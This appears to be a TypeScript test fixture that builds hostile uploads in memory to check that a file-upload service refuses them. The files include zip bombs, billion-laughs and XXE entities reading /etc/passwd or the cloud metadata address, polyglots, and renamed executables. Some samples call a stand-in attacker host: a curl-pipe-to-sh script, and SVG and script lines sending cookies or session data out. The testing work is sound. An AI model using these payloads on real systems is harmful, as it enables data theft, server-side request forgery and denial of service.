/**
 * Hostile files, built in memory (no binary fixture is committed): what an attacker uploads
 * to see what the service does with it. Each file says what its content really is (`family`:
 * the one kind of upload it could pass as, or null) and how it must be refused on the routes
 * that take that family (`refusal`); every other route refuses it as a type not allowed (415).
 */
import { deflateRawSync } from 'node:zlib';
import { MAX_FILE_BYTES } from '@tawreed/domain';
import { exeBytes, HEADER, linesXlsx, pdfBytes, pngBytes } from './fixtures.js';
import { zipBomb } from './zip-bomb.js';

export type Family = 'pdf' | 'png' | 'jpg' | 'gif' | 'webp' | 'xlsx' | 'csv';

export interface HostileFile {
  /** What the attack is. */
  attack: string;
  fileName: string;
  /** The Content-Type the attacker declares. */
  declaredType: string;
  bytes: Buffer;
  family: Family | null;
  /** The answer on a route that takes `family`; 413 and empty files answer the same everywhere. */
  refusal: 413 | 415 | 422;
  everywhere?: boolean;
  /** Routes that answer otherwise, with the reason in the file's construction. */
  byRoute?: Record<string, 413 | 415 | 422>;
}

// ---------------------------------------------------------------------------------------
// ZIP archives by hand, so directories can lie

interface ZipPart {
  name: string;
  content: Buffer;
  /** Stored (0) or deflated (8, the default). */
  method?: 0 | 8;
  /** What the central directory claims, when it lies. */
  declaredSize?: number;
}

export function zipOf(parts: ZipPart[], options: { zip64Locator?: boolean } = {}): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const part of parts) {
    const method = part.method ?? 8;
    const data = method === 8 ? deflateRawSync(part.content) : part.content;
    const size = part.declaredSize ?? part.content.length;
    const name = Buffer.from(part.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, data);
    centrals.push(central, name);
    offset += local.length + name.length + data.length;
  }
  const centralSize = centrals.reduce((sum, part) => sum + part.length, 0);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(centralSize, 12);
  end.writeUInt32LE(offset, 16);
  const locator = Buffer.alloc(options.zip64Locator ? 20 : 0);
  if (options.zip64Locator) locator.writeUInt32LE(0x07064b50, 0);
  return Buffer.concat([...locals, ...centrals, locator, end]);
}

const CONTENT_TYPES = `<?xml version="1.0" encoding="UTF-8"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`;
const WORKBOOK = `<?xml version="1.0" encoding="UTF-8"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Order Lines" sheetId="1" r:id="rId1"/></sheets></workbook>`;
const WORKBOOK_RELS = `<?xml version="1.0" encoding="UTF-8"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`;

const cell = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`;

function sheetXml(rows: string[][], prolog = ''): string {
  const body = rows
    .map(
      (row, r) =>
        `<row r="${r + 1}">${row.map((text, c) => cell(`${String.fromCharCode(65 + c)}${r + 1}`, text)).join('')}</row>`,
    )
    .join('');
  return `<?xml version="1.0" encoding="UTF-8"?>${prolog}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${body}</sheetData></worksheet>`;
}

const GOOD_ROWS = [HEADER.slice(0, 5), ['AMX-500', 'Amoxicillin 500mg', '8.35', '10', '1']];

/** A workbook of hand-made parts; `parts` replace or add to the default ones. */
function workbook(parts: Record<string, string | Buffer> = {}): Buffer {
  const all: Record<string, string | Buffer> = {
    '[Content_Types].xml': CONTENT_TYPES,
    'xl/workbook.xml': WORKBOOK,
    'xl/_rels/workbook.xml.rels': WORKBOOK_RELS,
    'xl/worksheets/sheet1.xml': sheetXml(GOOD_ROWS),
    ...parts,
  };
  return zipOf(
    Object.entries(all).map(([name, content]) => ({
      name,
      content: typeof content === 'string' ? Buffer.from(content) : content,
    })),
  );
}

const BILLION_LAUGHS = `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;"><!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;"><!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;"><!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;"><!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;"><!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>`;
const XXE_FILE = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>';
const XXE_HTTP = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>';
const XXE_PARAM = '<!DOCTYPE x [<!ENTITY % ext SYSTEM "http://attacker.test/evil.dtd"> %ext;]>';

function sharedStringsWith(prolog: string, text: string) {
  return `<?xml version="1.0" encoding="UTF-8"?>${prolog}<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>${text}</t></si></sst>`;
}

// ---------------------------------------------------------------------------------------
// Images and documents

function crc32(bytes: Buffer): number {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  return ~crc >>> 0;
}

function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([Buffer.from(type, 'latin1'), data])));
  return Buffer.concat([head, data, crc]);
}

/** A real 1x1 GIF89a. */
const gifBytes = () => Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

/** A minimal JPEG: SOI, a JFIF APP0, EOI. */
const jpegBytes = () =>
  Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]),
    Buffer.from('JFIF\0', 'latin1'),
    Buffer.from([0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]),
    Buffer.from([0xff, 0xdb, 0x00, 0x43, 0x00, ...new Array(64).fill(1)]),
    Buffer.from([0xff, 0xd9]),
  ]);

/** A RIFF/WEBP header claiming more data than the file has. */
function truncatedWebp(): Buffer {
  const bytes = Buffer.alloc(40);
  bytes.write('RIFF', 0, 'latin1');
  bytes.writeUInt32LE(5000, 4);
  bytes.write('WEBPVP8 ', 8, 'latin1');
  bytes.writeUInt32LE(4980, 16);
  return bytes;
}

const elfBytes = () =>
  Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(120)]);
const machOBytes = () =>
  Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01]), Buffer.alloc(64)]);
const javaClassBytes = () =>
  Buffer.concat([Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0x00, 0x00, 0x00, 0x34]), Buffer.alloc(64)]);
const shellScript = () => Buffer.from('#!/bin/sh\ncurl -s http://attacker.test/x | sh\n');
const SVG = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="fetch('/api/auth/me').then(r=>r.text()).then(t=>navigator.sendBeacon('https://attacker.test',t))"><script>alert(document.cookie)</script></svg>`;
const HTML =
  '<!DOCTYPE html><html><body><script>fetch("/api/orders").then(r=>r.text()).then(alert)</script></body></html>';
const JS = '\n<script>document.location="https://attacker.test/?c="+document.cookie</script>\n';

/** A text file just over the limit, padded with a repeated character. */
const oversized = (head: Buffer, extra = 1) =>
  Buffer.concat([head, Buffer.alloc(MAX_FILE_BYTES - head.length + extra, 0x20)]);

/** A PDF whose body carries a ZIP (an xlsx) inside a stream: one file that is two. */
function pdfWithZipStream(zip: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n3 0 obj << /Length ${zip.length} >>\nstream\n`,
      'latin1',
    ),
    zip,
    Buffer.from('\nendstream\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n', 'latin1'),
  ]);
}

// ---------------------------------------------------------------------------------------

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

export async function hostileCorpus(): Promise<HostileFile[]> {
  const goodXlsx = await linesXlsx();
  const goodWorkbook = workbook();
  const files: HostileFile[] = [];
  const add = (
    attack: string,
    fileName: string,
    declaredType: string,
    bytes: Buffer,
    family: Family | null,
    refusal: 413 | 415 | 422 = 415,
    everywhere = false,
  ) => files.push({ attack, fileName, declaredType, bytes, family, refusal, everywhere });

  // Zip bombs
  add('zip bomb, honest directory: a 200 MB sheet of zeros', 'bomb.xlsx', XLSX, zipBomb(), 'xlsx', 422);
  // Its [Content_Types].xml names no workbook, so by content it is a plain ZIP to the attachment
  // routes (415); the line parser finds xl/workbook.xml and refuses the size (422).
  files.at(-1)!.byRoute = { 'order upload (order_form)': 415, 'appeal evidence': 415 };
  add(
    'zip bomb, lying directory: the sheet claims 2 KB and inflates to 64 MB',
    'liar.xlsx',
    XLSX,
    zipOf([
      { name: '[Content_Types].xml', content: Buffer.from(CONTENT_TYPES) },
      { name: 'xl/workbook.xml', content: Buffer.from(WORKBOOK) },
      { name: 'xl/_rels/workbook.xml.rels', content: Buffer.from(WORKBOOK_RELS) },
      { name: 'xl/worksheets/sheet1.xml', content: Buffer.alloc(64 * 1024 * 1024, 0x20), declaredSize: 2048 },
    ]),
    'xlsx',
    422,
  );
  add(
    'zip bomb, lying directory: the shared strings claim 100 bytes and inflate to 32 MB',
    'liar-strings.xlsx',
    XLSX,
    zipOf([
      { name: '[Content_Types].xml', content: Buffer.from(CONTENT_TYPES) },
      { name: 'xl/workbook.xml', content: Buffer.from(WORKBOOK) },
      { name: 'xl/_rels/workbook.xml.rels', content: Buffer.from(WORKBOOK_RELS) },
      { name: 'xl/worksheets/sheet1.xml', content: Buffer.from(sheetXml(GOOD_ROWS)) },
      { name: 'xl/sharedStrings.xml', content: Buffer.alloc(32 * 1024 * 1024, 0x41), declaredSize: 100 },
    ]),
    'xlsx',
    422,
  );
  add(
    'zip bomb, honest directory: 12 MB compressed 1000:1 in one part',
    'ratio.xlsx',
    XLSX,
    workbook({ 'xl/media/padding.xml': Buffer.alloc(12 * 1024 * 1024, 0x20) }),
    'xlsx',
    422,
  );
  add(
    'zip bomb, honest directory: 60 parts of 1 MB each',
    'many-parts.xlsx',
    XLSX,
    workbook(
      Object.fromEntries(
        Array.from({ length: 60 }, (_, i) => [
          `xl/media/part${i}.xml`,
          Buffer.alloc(1024 * 1024, 0x61 + (i % 20)),
        ]),
      ),
    ),
    'xlsx',
    422,
  );
  {
    // Overlapping entries (a non-recursive bomb): 2,000 directory records pointing at one 1 MB sheet.
    const single = zipOf([{ name: 'xl/worksheets/sheet1.xml', content: Buffer.alloc(1024 * 1024, 0x20) }]);
    const local = single.subarray(0, single.readUInt32LE(single.length - 6));
    const record = single.subarray(local.length, single.length - 22);
    const records = Array.from({ length: 2000 }, () => record);
    const end = Buffer.from(single.subarray(single.length - 22));
    end.writeUInt16LE(2000, 8);
    end.writeUInt16LE(2000, 10);
    end.writeUInt32LE(record.length * 2000, 12);
    const overlapped = Buffer.concat([local, ...records, end]);
    add(
      'zip bomb, overlapping entries: 2,000 records share one 1 MB part',
      'overlap.xlsx',
      XLSX,
      overlapped,
      null,
    );
  }
  add(
    'ZIP64 archive claiming sizes beyond 4 GB',
    'zip64.xlsx',
    XLSX,
    zipOf(
      [
        { name: '[Content_Types].xml', content: Buffer.from(CONTENT_TYPES) },
        { name: 'xl/workbook.xml', content: Buffer.from(WORKBOOK) },
      ],
      { zip64Locator: true },
    ),
    null,
  );

  // XML attacks inside an xlsx
  add(
    'billion laughs in the sheet',
    'laughs.xlsx',
    XLSX,
    workbook({ 'xl/worksheets/sheet1.xml': sheetXml([['&lol9;']], BILLION_LAUGHS) }),
    'xlsx',
    422,
  );
  add(
    'billion laughs in the shared strings',
    'laughs-strings.xlsx',
    XLSX,
    workbook({ 'xl/sharedStrings.xml': sharedStringsWith(BILLION_LAUGHS, '&lol9;') }),
    'xlsx',
    422,
  );
  add(
    'billion laughs in the workbook',
    'laughs-book.xlsx',
    XLSX,
    workbook({ 'xl/workbook.xml': WORKBOOK.replace('<workbook', `${BILLION_LAUGHS}<workbook`) }),
    'xlsx',
    422,
  );
  add(
    'billion laughs in [Content_Types].xml',
    'laughs-types.xlsx',
    XLSX,
    workbook({ '[Content_Types].xml': CONTENT_TYPES.replace('<Types', `${BILLION_LAUGHS}<Types`) }),
    'xlsx',
    422,
  );
  add(
    'XXE reading /etc/passwd in the sheet',
    'xxe.xlsx',
    XLSX,
    workbook({ 'xl/worksheets/sheet1.xml': sheetXml([['&xxe;']], XXE_FILE) }),
    'xlsx',
    422,
  );
  add(
    'XXE to the cloud metadata address in the shared strings',
    'xxe-ssrf.xlsx',
    XLSX,
    workbook({ 'xl/sharedStrings.xml': sharedStringsWith(XXE_HTTP, '&xxe;') }),
    'xlsx',
    422,
  );
  add(
    'XXE through a parameter entity in the relationships',
    'xxe-param.xlsx',
    XLSX,
    workbook({
      'xl/_rels/workbook.xml.rels': WORKBOOK_RELS.replace('<Relationships', `${XXE_PARAM}<Relationships`),
    }),
    'xlsx',
    422,
  );
  add(
    'XXE in the document properties, a part the line parser never reads',
    'xxe-props.xlsx',
    XLSX,
    workbook({
      'docProps/core.xml': `<?xml version="1.0"?>${XXE_FILE}<coreProperties>&xxe;</coreProperties>`,
    }),
    'xlsx',
    422,
  );

  // Polyglots
  add(
    'PDF with a ZIP appended after %%EOF',
    'statement.pdf',
    'application/pdf',
    Buffer.concat([pdfBytes(), goodXlsx]),
    'pdf',
    415,
  );
  add(
    'PDF carrying a whole xlsx inside a stream object',
    'embedded.pdf',
    'application/pdf',
    pdfWithZipStream(goodXlsx),
    'pdf',
    415,
  );
  add(
    'PDF with an HTML page after %%EOF',
    'page.pdf',
    'application/pdf',
    Buffer.concat([pdfBytes(), Buffer.from(HTML)]),
    'pdf',
    415,
  );
  add(
    'xlsx with a PDF appended (a ZIP first)',
    'sheet.pdf',
    'application/pdf',
    Buffer.concat([goodXlsx, pdfBytes()]),
    null,
  );
  add(
    'PNG with an HTML page appended',
    'logo.png',
    'image/png',
    Buffer.concat([pngBytes(), Buffer.from(HTML)]),
    'png',
    415,
  );
  add(
    'PNG with a script appended',
    'avatar.png',
    'image/png',
    Buffer.concat([pngBytes(), Buffer.from(JS)]),
    'png',
    415,
  );
  add('PNG with a ZIP appended', 'chart.png', 'image/png', Buffer.concat([pngBytes(), goodXlsx]), 'png', 415);
  {
    // A well-formed PNG (every chunk and CRC right) whose text chunk is a whole xlsx.
    const png = pngBytes();
    const ihdrEnd = 8 + 12 + png.readUInt32BE(8);
    const carrying = Buffer.concat([
      png.subarray(0, ihdrEnd),
      pngChunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), goodXlsx])),
      png.subarray(ihdrEnd),
    ]);
    add(
      'PNG carrying an xlsx inside a well-formed text chunk',
      'diagram.png',
      'image/png',
      carrying,
      'png',
      415,
    );
  }
  add(
    'GIFAR: a GIF with a Java archive appended',
    'photo.gif',
    'image/gif',
    Buffer.concat([
      gifBytes(),
      zipOf([
        { name: 'META-INF/MANIFEST.MF', content: Buffer.from('Manifest-Version: 1.0\nMain-Class: Evil\n') },
        { name: 'Evil.class', content: javaClassBytes() },
      ]),
    ]),
    'gif',
    415,
  );
  add(
    'JPEG with a ZIP appended',
    'scan.jpg',
    'image/jpeg',
    Buffer.concat([jpegBytes(), goodXlsx]),
    'jpg',
    415,
  );
  add(
    'JPEG with an HTML page appended',
    'receipt.jpeg',
    'image/jpeg',
    Buffer.concat([jpegBytes(), Buffer.from(HTML)]),
    'jpg',
    415,
  );
  add(
    'an HTML page that starts with a PDF header',
    'invoice.pdf',
    'application/pdf',
    Buffer.from(`%PDF-1.4\n${HTML}`),
    'pdf',
    422,
  );
  add(
    'a GIF header followed by a script (GIF89a/*...*/ JavaScript)',
    'banner.gif',
    'image/gif',
    Buffer.from('GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.domain);//'),
    'gif',
    422,
  );

  // Renamed executables
  for (const [label, bytes] of [
    ['ELF executable', elfBytes()],
    ['Windows PE/MZ executable', exeBytes()],
    ['shell script', shellScript()],
  ] as const) {
    add(`${label} named .pdf`, 'invoice.pdf', 'application/pdf', bytes, null);
    add(`${label} named .png`, 'photo.png', 'image/png', bytes, null);
    add(`${label} named .xlsx`, 'lines.xlsx', XLSX, bytes, null);
  }
  add('Mach-O executable named .jpg', 'photo.jpg', 'image/jpeg', machOBytes(), null);
  add('Java class file named .xls', 'lines.xls', 'application/vnd.ms-excel', javaClassBytes(), null);
  add('Windows executable named .csv', 'lines.csv', 'text/csv', exeBytes(), null);

  // SVG and HTML as images
  add('SVG with a script declared as PNG', 'logo.png', 'image/png', Buffer.from(SVG), null);
  add('SVG with a script as itself', 'logo.svg', 'image/svg+xml', Buffer.from(SVG), null);
  add('SVG declared as JPEG', 'photo.jpg', 'image/jpeg', Buffer.from(SVG), null);
  add('SVG named .pdf', 'scan.pdf', 'application/pdf', Buffer.from(SVG), null);
  add('HTML page declared as PNG', 'image.png', 'image/png', Buffer.from(HTML), null);
  add('HTML page declared as GIF', 'image.gif', 'image/gif', Buffer.from(HTML), null);
  add('HTML page declared as WebP', 'image.webp', 'image/webp', Buffer.from(HTML), null);
  add('HTML page named .xlsx', 'lines.xlsx', XLSX, Buffer.from(HTML), null);
  add('HTML page named .csv', 'lines.csv', 'text/csv', Buffer.from(HTML), null);
  add('HTML page declared text/html', 'page.html', 'text/html', Buffer.from(HTML), null);

  // Oversized
  add('PDF of 10 MB + 1 byte', 'big.pdf', 'application/pdf', oversized(pdfBytes()), 'pdf', 413, true);
  add('PNG of 12 MB', 'big.png', 'image/png', oversized(pngBytes(), 1.5 * 1024 * 1024), 'png', 413, true);
  add(
    'CSV of 10 MB + 1 byte',
    'big.csv',
    'text/csv',
    oversized(Buffer.from('Item Code,Item Description,Public Price,Qty\n')),
    'csv',
    413,
    true,
  );
  add(
    'xlsx of 11 MB',
    'big.xlsx',
    XLSX,
    Buffer.concat([goodXlsx, Buffer.alloc(11 * 1024 * 1024)]),
    'xlsx',
    413,
    true,
  );

  // Truncated
  add('PDF cut before %%EOF', 'cut.pdf', 'application/pdf', pdfBytes().subarray(0, 60), 'pdf', 422);
  add('PNG cut in its image data', 'cut.png', 'image/png', pngBytes().subarray(0, 50), 'png', 422);
  add('JPEG without its end marker', 'cut.jpg', 'image/jpeg', jpegBytes().subarray(0, 40), 'jpg', 422);
  add('GIF without its trailer', 'cut.gif', 'image/gif', gifBytes().subarray(0, 30), 'gif', 422);
  add('WebP claiming 5,000 bytes in 40', 'cut.webp', 'image/webp', truncatedWebp(), 'webp', 422);
  add(
    'xlsx cut in half',
    'cut.xlsx',
    XLSX,
    goodXlsx.subarray(0, Math.floor(goodXlsx.length / 2)),
    'xlsx',
    422,
  );
  add(
    'xlsx without its central directory',
    'nodir.xlsx',
    XLSX,
    goodWorkbook.subarray(0, goodWorkbook.length - 200),
    'xlsx',
    422,
  );
  add('three bytes of a PDF header', 'tiny.pdf', 'application/pdf', Buffer.from('%PD'), null);

  // Empty files
  for (const [name, type] of [
    ['empty.pdf', 'application/pdf'],
    ['empty.png', 'image/png'],
    ['empty.xlsx', XLSX],
    ['empty.csv', 'text/csv'],
  ] as const) {
    add(`empty file named ${name}`, name, type, Buffer.alloc(0), null, 422, true);
  }

  // Names that disguise what a file is
  add(
    'RIGHT-TO-LEFT OVERRIDE: "invoice\\u202Efdp.exe" shows as invoiceexe.pdf',
    'invoice\u202Efdp.exe',
    'application/pdf',
    exeBytes(),
    null,
  );
  add('RTL override hiding .html behind "gnp"', 'photo\u202Egnp.html', 'image/png', Buffer.from(HTML), null);
  add('NUL in the name: "report.pdf\\0.exe"', 'report.pdf\u0000.exe', 'application/pdf', elfBytes(), null);
  add(
    'zero-width characters around .pdf hiding a script',
    'scan\u200B.pdf\u200D',
    'application/pdf',
    shellScript(),
    null,
  );
  add(
    'isolate and embedding characters in an executable name',
    '\u2066lines\u2069\u202B.xlsx',
    XLSX,
    exeBytes(),
    null,
  );
  add(
    'BOM and control characters in an SVG name',
    '\uFEFFlogo\u0007\u001b[31m.png',
    'image/png',
    Buffer.from(SVG),
    null,
  );

  // Wrong extension for the right content, and the reverse
  add('a real PNG named .pdf', 'scan.pdf', 'application/pdf', pngBytes(), null);
  add('a real PDF named .png', 'scan.png', 'image/png', pdfBytes(), null);
  add('a real PDF named .xlsx', 'lines.xlsx', XLSX, pdfBytes(), null);
  add('a real xlsx named .pdf', 'lines.pdf', 'application/pdf', goodXlsx, null);
  add('a real xlsx named .png', 'lines.png', 'image/png', goodXlsx, null);
  add('a real JPEG named .gif', 'photo.gif', 'image/gif', jpegBytes(), null);
  add('a real GIF named .jpg', 'photo.jpg', 'image/jpeg', gifBytes(), null);
  add(
    'a real CSV of lines named .png',
    'lines.png',
    'text/csv',
    Buffer.from('Item Code,Item Description,Public Price,Qty\nA,Gauze,1,1\n'),
    null,
  );
  add('a real PDF with no extension at all', 'invoice', 'application/pdf', pdfBytes(), null);
  add('a real PNG named .exe', 'photo.exe', 'image/png', pngBytes(), null);

  return files;
}
